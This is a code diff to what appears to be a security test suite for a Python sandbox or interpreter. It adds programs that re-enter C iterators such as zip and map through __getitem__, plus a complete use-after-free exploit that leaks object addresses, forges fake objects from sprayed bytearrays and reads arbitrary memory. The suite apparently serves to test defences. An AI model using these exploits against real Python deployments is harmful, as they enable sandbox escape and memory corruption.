@@ -110,5 +110,59 @@ _MADE = {
     "count": "class Number:\n    __int__ = int\n    def __add__(self, other):\n        again()\n        return self\n"
     "it = count(Number())",
 }
-ATTACKS = {"use_after_free": _FORGE} | {name: _AGAIN.format(make=make) for name, make in _MADE.items()}
+#: Classes that C iterates over by `__getitem__`, for iterators that make that iterator themselves.
+_ITEMS = "class Items:\n    def __getitem__(self, at):\n        return again()\n"
+_SET_LATER = "class Items:\n    pass\nItems.__getitem__ = lambda self, at: again()\n"
+_DELETED = _ITEMS + "    def __iter__(self):\n        return iter(())\ndel Items.__iter__\n"
+_NOT_FOUND = _ITEMS + "    @property\n    def __iter__(self):\n        raise AttributeError\n"
+_NO_SLOT = "class S:\n    __slots__ = ('a',)\n" + _ITEMS.replace("Items:", "Items(S):") + "    __iter__ = S.a\n"
+_BASE = "class Base:\n    def __iter__(self):\n        return iter(())\n"
+_OF_A_BASE = _BASE + _ITEMS.replace("Items:", "Items(Base):") + "del Base.__iter__\n"
+_MADE |= {
+    "zip": _ITEMS + "it = zip(Items())",
+    "map": _ITEMS + "it = map(str, Items())",
+    "filter": _ITEMS + "it = filter(None, Items())",
+    "enumerate": _ITEMS + "it = enumerate(Items())",
+    "starmap": _ITEMS.replace("again()", "(again(),)") + "from itertools import starmap\nit = starmap(str, Items())",
+    "items_set_later": _SET_LATER + "it = zip(Items())",
+    "items_by_setattr": _SET_LATER.replace("Items.__getitem__ =", "setattr(Items, '__getitem__',").replace(
+        "again()\n", "again())\n"
+    )
+    + "it = zip(Items())",
+    "iter_deleted": _DELETED + "it = zip(Items())",
+    "iter_deleted_from_a_base": _OF_A_BASE + "it = zip(Items())",
+    "iter_not_found": _NOT_FOUND + "it = zip(Items())",
+    "iter_in_an_empty_slot": _NO_SLOT + "it = zip(Items())",
+}
+_OVER_ITEMS = """
+def le(*n):
+    return b"".join(x.to_bytes(8, "little") for x in n)
+def address(x):
+    h = object.__hash__(x) & (1 << 64) - 1
+    return (h << 4 | h >> 60) & (1 << 64) - 1
+kept = []
+def forge(wanted):
+    # The object at this address.
+    class Seq:
+        __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")
+        n = 0
+        def __getitem__(self, at):
+            Seq.n += 1
+            if Seq.n == 1:
+                next(it, None)
+            raise IndexError
+    s = Seq()
+    it = zip(s)
+    next(it, None)
+    keep = [bytearray(bytes(16) + le(1000, address(tuple), 1, wanted) + bytes(47)) for i in range(40)]
+    kept.append((s, keep, it))
+    return s[0]
+many = [le(1 << 40, address(bytes), 1 << 62, 0) + i.to_bytes(2, "little") for i in range(20000)]
+header = min(many, key=address)
+base = address(header) + 64
+memory = forge(base - 32)
+at = address(len) + 24 - base
+LOOT = forge(int.from_bytes(memory[at:at + 8], "little"))
+"""
+ATTACKS = {"use_after_free": _FORGE, "use_after_free_over_items": _OVER_ITEMS} | {name: _AGAIN.format(make=make) for name, make in _MADE.items()}
 CONTROLS = {"use_after_free": "def print():\n    pass\n" + _FORGE}
